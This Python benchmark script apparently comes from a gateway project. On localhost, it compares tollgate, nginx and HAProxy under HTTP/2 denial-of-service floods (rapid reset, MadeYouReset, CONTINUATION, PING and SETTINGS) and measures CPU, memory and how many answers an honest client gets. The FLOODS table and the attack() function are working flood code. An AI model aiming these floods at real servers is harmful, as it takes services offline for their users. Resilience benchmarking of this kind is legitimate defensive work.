"""Floods over HTTP/2, one client at a time, against tollgate, nginx and HAProxy before the same server.

    python3 benches/floods_http2.py target/release/tollgate [--seconds 4]

One attacker sends frames as fast as it can and connects again when its connection is ended. Then eight attackers send
requests that reset themselves by a fault (MadeYouReset), and `h2load` counts the answers of one honest client to a server
that takes 10 ms. Wants nginx, haproxy and h2load (Debian: nginx, haproxy, nghttp2-client).
"""

import argparse
import asyncio
import multiprocessing
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = b"\x82\x86\x84\x01\x01a"

TOLLGATE = """
[server]
listen = ["127.0.0.1:{port}"]
[upstreams]
all = "http://127.0.0.1:{server}"
[[routes]]
path = "/*"
upstream = "all"
"""

NGINX = """
daemon off; master_process off; error_log /dev/null; pid {folder}/nginx.pid;
events {{ worker_connections 8192; }}
http {{ access_log off; server {{ listen 127.0.0.1:{port} http2; location / {{ proxy_pass http://127.0.0.1:{server}; }} }} }}
"""

HAPROXY = """
defaults
  mode http
  timeout connect 1s
  timeout client 10s
  timeout server 10s
frontend front
  bind 127.0.0.1:{port} proto h2
  default_backend all
backend all
  server one 127.0.0.1:{server}
"""


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def pairs(second):
    """A hundred requests, each with what follows it."""
    def part(first):
        return b"".join(frame(1, 5, first + 2 * index, GET) + second(first + 2 * index) for index in range(100))
    return part


FLOODS = {
    "rapid reset": pairs(lambda stream: frame(3, 0, stream, b"\0\0\0\x08")),
    "MadeYouReset": pairs(lambda stream: frame(8, 0, stream, b"\0\0\0\0")),
    "CONTINUATION": lambda first: (frame(1, 1, 1, GET) if first == 1 else b"") + frame(9, 0, 1, b"\x00\x01a\x01b") * 100,
    "PING": lambda first: frame(6, 0, 0, b"12345678") * 100,
    "SETTINGS": lambda first: frame(4, 0, 0, b"\0\4\0\0\xff\xff") * 100,
}


def attack(port, name, seconds, result=None):
    """Sends frames, or pairs of them, until the time is over. Returns how many, over how many connections."""
    part, sent, connections, end = FLOODS[name], 0, 0, time.time() + seconds
    while time.time() < end:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
                connections += 1
                connection.sendall(PREFACE + frame(4, 0, 0))
                first = 1
                while time.time() < end and first < 1 << 30:
                    connection.sendall(part(first))
                    first, sent = first + 200, sent + 100
                    connection.setblocking(False)
                    try:
                        while connection.recv(65536):
                            pass
                        break
                    except BlockingIOError:
                        connection.settimeout(1)
        except OSError:
            pass
    if result is not None:
        result.put((sent, connections))
    return sent, connections


def serve(port):
    """A server that answers after 10 ms."""
    async def one(reader, writer):
        try:
            while True:
                await reader.readuntil(b"\r\n\r\n")
                await asyncio.sleep(0.01)
                writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok")
        except (OSError, asyncio.IncompleteReadError):
            writer.close()

    async def listen():
        await (await asyncio.start_server(one, "127.0.0.1", port, backlog=1000)).serve_forever()

    asyncio.run(listen())


def free_port():
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        return listener.getsockname()[1]


def cpu(process):
    fields = Path(f"/proc/{process.pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / 100


def peak_memory(process):
    return int(re.search(r"VmHWM:\s+(\d+)", Path(f"/proc/{process.pid}/status").read_text())[1])


def answers(port):
    """The answers that one client gets in 5 s, one request at a time."""
    told = subprocess.run(["h2load", "-D", "5", "-c1", "-m1", f"http://127.0.0.1:{port}/"], capture_output=True, text=True).stdout
    return int(re.search(r"(\d+) succeeded", told)[1])


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("binary")
    parser.add_argument("--seconds", type=float, default=4)
    arguments = parser.parse_args()
    if missing := [name for name in ["nginx", "haproxy", "h2load"] if not shutil.which(name)]:
        sys.exit(f"not installed: {', '.join(missing)}")
    server = free_port()
    backend = multiprocessing.Process(target=serve, args=(server,), daemon=True)
    backend.start()
    rows, honest = [], []
    with tempfile.TemporaryDirectory() as folder:
        for name, text, command in [
            ("tollgate", TOLLGATE, [arguments.binary, "run", "-c"]), ("nginx", NGINX, ["nginx", "-c"]), ("HAProxy", HAPROXY, ["haproxy", "-f"]),
        ]:
            port, file = free_port(), Path(folder, name)
            file.write_text(text.format(port=port, server=server, folder=folder))
            gateway = subprocess.Popen([*command, file], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(1)
            for flood in FLOODS:
                before, memory = cpu(gateway), peak_memory(gateway)
                sent, connections = attack(port, flood, arguments.seconds)
                used = (cpu(gateway) - before) / arguments.seconds
                rows.append((flood, name, f"{sent / arguments.seconds / 1000:.0f}", connections, f"{used:.0%}", peak_memory(gateway) - memory))
            alone, results = answers(port), multiprocessing.Queue()
            attackers = [multiprocessing.Process(target=attack, args=(port, "MadeYouReset", 7, results)) for _ in range(8)]
            for attacker in attackers:
                attacker.start()
            time.sleep(0.7)
            honest.append((name, alone, answers(port), sum(results.get()[0] for _ in attackers)))
            gateway.kill()
    print("| flood | gateway | 1,000 frames or pairs a second | connections | CPU | memory, KiB |\n|---|---|---|---|---|---|")
    for row in sorted(rows, key=lambda row: list(FLOODS).index(row[0])):
        print("|", " | ".join(map(str, row)), "|")
    print("\n| honest client | answers alone | beside the attack | pairs |\n|---|---|---|---|")
    for row in honest:
        print("|", " | ".join(map(str, row)), "|")


if __name__ == "__main__":
    main()
